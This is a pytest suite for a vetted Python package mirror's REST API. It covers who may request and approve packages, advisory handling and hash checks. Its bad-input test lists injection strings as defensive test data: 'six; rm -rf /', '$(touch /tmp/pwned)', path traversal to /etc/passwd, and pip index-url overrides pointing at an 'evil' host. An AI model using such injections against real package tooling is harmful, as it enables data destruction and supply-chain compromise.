"""The vetted package mirror through the REST API: who may ask and decide, what the administrator sees,
what approval puts in the wheelhouse, and clear 4xx answers to bad input.

These tests use the registry on the control-plane side (pip resolves and fetches); downloads are cached
for the run (``pip_cache``).
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from factories import World, fresh, row_counts
from fastapi.testclient import TestClient
from mirror_support import DEPENDENCY, PACKAGE, VERSION, pip_cache
from sqlalchemy import select
from sqlalchemy.orm import Session

from tre_platform.api.audit.models import AuditEvent
from tre_platform.settings import get_settings

__all__ = ["pip_cache"]
URL = "/api/v1/packages/requests"
ASK = {"name": PACKAGE, "version": VERSION, "reason": "parse RFC 3339 timestamps in the survey data"}


@pytest.fixture(autouse=True)
def _cache(pip_cache: Path) -> None:
    """Every test here shares the run's pip cache."""


def ask(client: TestClient, world: World, role: str = "researcher", **body: Any) -> Any:
    return client.post(URL, json={**ASK, **body}, headers=world.headers(role))


def wheelhouse() -> Path:
    return get_settings().resolved_wheelhouse


def test_an_accredited_researcher_asks_and_the_whole_tree_is_resolved(
    client: TestClient, world: World
) -> None:
    response = ask(client, world)
    assert response.status_code == 201, response.text
    out = response.json()
    assert out["state"] == "pending" and out["requested_by"] == "researcher"
    tree = {w["name"]: w for w in out["tree"]}
    assert set(tree) == {PACKAGE, DEPENDENCY}
    assert tree[PACKAGE]["requested"] and tree[PACKAGE]["requires"] == [DEPENDENCY]
    assert tree[PACKAGE]["version"] == VERSION
    for wheel in tree.values():
        assert re.fullmatch(r"[0-9a-f]{64}", wheel["sha256"])
        assert wheel["filename"].endswith(".whl")
        assert "MIT" in wheel["licence"]
        assert wheel["in_mirror"] is False and wheel["advisories"] == []
    assert not any(wheelhouse().glob("*.whl")), "asking must not put anything in the mirror"


def test_approval_fetches_every_wheel_of_the_tree_into_the_wheelhouse_with_the_shown_hashes(
    client: TestClient, world: World, session: Session
) -> None:
    out = ask(client, world).json()
    response = client.post(
        f"{URL}/{out['id']}/approve", json={"comment": "fine"}, headers=world.headers("admin")
    )
    assert response.status_code == 200, response.text
    approved = response.json()
    assert approved["state"] == "approved" and approved["decided_by"] == "admin"
    assert all(w["in_mirror"] for w in approved["tree"])
    import hashlib

    for wheel in out["tree"]:
        path = wheelhouse() / wheel["filename"]
        assert hashlib.sha256(path.read_bytes()).hexdigest() == wheel["sha256"]
        assert path.stat().st_mode & 0o777 == 0o644
    mirror = client.get("/api/v1/packages/mirror", headers=world.headers("researcher")).json()
    assert {m["name"] for m in mirror} == {PACKAGE, DEPENDENCY}
    fresh(session)
    actions = [e.action for e in session.scalars(select(AuditEvent).where(AuditEvent.target_id == out["id"]))]
    assert "package.request" in actions and "package.approve" in actions
    assert "policy.approve_package" in actions and "policy.request_package" in actions


def test_a_researcher_cannot_approve_even_their_own_request(client: TestClient, world: World) -> None:
    out = ask(client, world).json()
    response = client.post(f"{URL}/{out['id']}/approve", json={}, headers=world.headers("researcher"))
    assert response.status_code == 403
    assert response.json()["error"] == "policy_denied"
    assert not any(wheelhouse().glob("*.whl"))


@pytest.mark.parametrize("role", ["admin", "data_owner", "approver", "output_checker"])
def test_only_researchers_may_ask(client: TestClient, world: World, session: Session, role: str) -> None:
    before = row_counts(session)
    response = ask(client, world, role)
    assert response.status_code == 403, response.text
    assert "no policy permits" in response.text
    after = row_counts(session)
    assert after["package_requests"] == before["package_requests"]


def test_an_admin_cannot_ask_on_behalf_of_a_researcher(client: TestClient, world: World) -> None:
    body = {**ASK, "requested_by_id": world.ids["researcher"]}
    response = client.post(URL, json=body, headers=world.headers("admin"))
    assert response.status_code == 422
    assert "requested_by_id" in response.text


def test_an_unaccredited_researcher_cannot_ask(client: TestClient, world: World) -> None:
    response = ask(client, world, "member")  # a researcher with no accreditation
    assert response.status_code == 403
    assert "holds no researcher accreditation" in response.text


def test_a_researcher_sees_only_their_own_requests(client: TestClient, world: World) -> None:
    out = ask(client, world).json()
    assert client.get(f"{URL}/{out['id']}", headers=world.headers("colleague")).status_code == 404
    listed = client.get(URL, headers=world.headers("colleague")).json()
    assert out["id"] not in {r["id"] for r in listed}
    assert client.get(f"{URL}/{out['id']}", headers=world.headers("admin")).status_code == 200


def test_a_refused_request_cannot_then_be_approved(client: TestClient, world: World) -> None:
    out = ask(client, world).json()
    admin = world.headers("admin")
    refused = client.post(
        f"{URL}/{out['id']}/refuse", json={"reason": "use the standard library"}, headers=admin
    )
    assert refused.status_code == 200 and refused.json()["state"] == "refused"
    again = client.post(f"{URL}/{out['id']}/approve", json={}, headers=admin)
    assert again.status_code == 409
    assert not any(wheelhouse().glob("*.whl"))


def test_asking_twice_for_a_pending_package_is_a_conflict(client: TestClient, world: World) -> None:
    assert ask(client, world).status_code == 201
    second = ask(client, world, "colleague")
    assert second.status_code == 409 and "already been asked for" in second.text


OSV_SIX = {
    "id": "TEST-2026-0001",
    "summary": "six is affected by a test advisory",
    "aliases": ["CVE-2026-0001"],
    "modified": "2026-01-01T00:00:00Z",
    "affected": [
        {
            "package": {"ecosystem": "PyPI", "name": "Six"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.10.0"}, {"fixed": "1.18.0"}]}],
        }
    ],
}
OSV_OTHER = {
    "id": "TEST-2026-0002",
    "summary": "fixed before the version asked for",
    "affected": [
        {
            "package": {"ecosystem": "PyPI", "name": "six"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.5.0"}]}],
        },
        {"package": {"ecosystem": "npm", "name": "six"}, "versions": ["1.17.0"]},
    ],
}


def _load(session: Session, records: Any) -> tuple[int, int]:
    from tre_platform.actor import Actor
    from tre_platform.api.packages import service

    result = service.load_advisories(session, Actor.system("tests"), json.dumps(records).encode(), "osv.json")
    session.commit()
    return result


def test_advisories_are_shown_and_must_be_accepted_to_approve(
    client: TestClient, world: World, session: Session
) -> None:
    assert _load(session, [OSV_SIX, OSV_OTHER]) == (2, 2)
    out = ask(client, world).json()
    tree = {w["name"]: w for w in out["tree"]}
    assert [a["osv_id"] for a in tree[DEPENDENCY]["advisories"]] == ["TEST-2026-0001"]
    assert tree[PACKAGE]["advisories"] == [] and out["advisory_count"] == 1
    admin = world.headers("admin")
    refused = client.post(f"{URL}/{out['id']}/approve", json={}, headers=admin)
    assert refused.status_code == 409 and "TEST-2026-0001" in refused.text
    assert not any(wheelhouse().glob("*.whl"))
    accepted = client.post(f"{URL}/{out['id']}/approve", json={"accept_advisories": True}, headers=admin)
    assert accepted.status_code == 200


NONEXISTENT = "tre-no-such-package-7f3a9c"


@pytest.mark.parametrize(
    ("name", "version", "field"),
    [
        (NONEXISTENT, "1.0", "name"),  # no such package on the registry
        (PACKAGE, "99999999.0", "name"),  # a valid but absurd version nobody published
        ("six; rm -rf /", "1.0", "name"),
        ("$(touch /tmp/pwned)", "1.0", "name"),
        ("--index-url=http://evil.example/simple", "1.0", "name"),
        ("../../etc/passwd", "1.0", "name"),
        ("six\n--extra-index-url http://evil", "1.0", "name"),
        ("x" * 150, "1.0", "name"),
        (PACKAGE, "latest", "version"),
        (PACKAGE, ">=0.1", "version"),
        (PACKAGE, "0.1.4 --pre", "version"),
        (PACKAGE, "0.1.4+local", "version"),
        (PACKAGE, "1" * 80, "version"),
    ],
)
def test_bad_names_and_versions_get_a_clear_422_and_change_nothing(
    client: TestClient, world: World, session: Session, name: str, version: str, field: str
) -> None:
    before = row_counts(session)
    response = ask(client, world, name=name, version=version)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body.get("field") == field, body
    assert "Traceback" not in response.text
    assert row_counts(session)["package_requests"] == before["package_requests"]
    assert not Path("/tmp/pwned").exists()


def test_an_empty_or_missing_field_is_a_422(client: TestClient, world: World) -> None:
    for body in ({"name": "", "version": "1.0", "reason": "x" * 5}, {"name": "six", "version": "1.0"}):
        response = client.post(URL, json=body, headers=world.headers("researcher"))
        assert response.status_code == 422


def test_a_package_already_in_the_mirror_is_not_asked_for_again(client: TestClient, world: World) -> None:
    out = ask(client, world).json()
    assert (
        client.post(f"{URL}/{out['id']}/approve", json={}, headers=world.headers("admin")).status_code == 200
    )
    again = ask(client, world, "colleague")
    assert again.status_code == 409 and "already in the mirror" in again.text


# The mirror itself -------------------------------------------------------------------------------


def test_the_mirror_serves_approved_wheels_to_pip_and_nothing_else(client: TestClient, world: World) -> None:
    """A fresh virtualenv of a non-root user, pip pointed only at the mirror: the approved package
    installs (with its dependency); a package nobody approved is not found - no fallback to PyPI."""
    from mirror_support import (
        UNAPPROVED,
        free_port,
        fresh_venv,
        pip_install,
        researcher_account,
        running_mirror,
    )

    out = ask(client, world).json()
    assert (
        client.post(f"{URL}/{out['id']}/approve", json={}, headers=world.headers("admin")).status_code == 200
    )
    with running_mirror(free_port()) as index, researcher_account() as user, fresh_venv(user) as venv:
        installed = pip_install(user, venv, index, f"{PACKAGE}=={VERSION}")
        assert installed.returncode == 0, installed.stderr
        assert "Successfully installed" in installed.stdout and DEPENDENCY in installed.stdout
        refused = pip_install(user, venv, index, UNAPPROVED)
        assert refused.returncode != 0
        assert "No matching distribution found" in refused.stderr


def test_nobody_can_upload_to_the_mirror(client: TestClient, world: World) -> None:
    import httpx
    from mirror_support import free_port, running_mirror

    with running_mirror(free_port()) as index:
        response = httpx.post(
            index.removesuffix("simple/"),
            data={":action": "file_upload"},
            files={"content": ("evil-1.0-py3-none-any.whl", b"PK", "application/octet-stream")},
            auth=("admin", "anything"),
        )
        assert response.status_code in (401, 403)
    assert not (wheelhouse() / "evil-1.0-py3-none-any.whl").exists()


def test_a_wheel_whose_hash_differs_from_the_tree_shown_is_never_published(
    client: TestClient, world: World, session: Session
) -> None:
    """What the administrator approves is what they saw: a fetched wheel with another SHA-256 (a registry
    that changed it, or a tree edited since) stops the approval and the mirror stays as it was."""
    from tre_platform.api.packages.models import PackageRequest

    out = ask(client, world).json()
    fresh(session)
    request = session.get(PackageRequest, out["id"])
    assert request is not None
    request.tree = [{**w, "sha256": "0" * 64} if w["name"] == DEPENDENCY else w for w in request.tree]
    session.commit()
    response = client.post(f"{URL}/{out['id']}/approve", json={}, headers=world.headers("admin"))
    assert response.status_code == 409 and "another SHA-256" in response.text
    assert not any(wheelhouse().glob("*.whl"))
    assert client.get(f"{URL}/{out['id']}", headers=world.headers("admin")).json()["state"] == "pending"
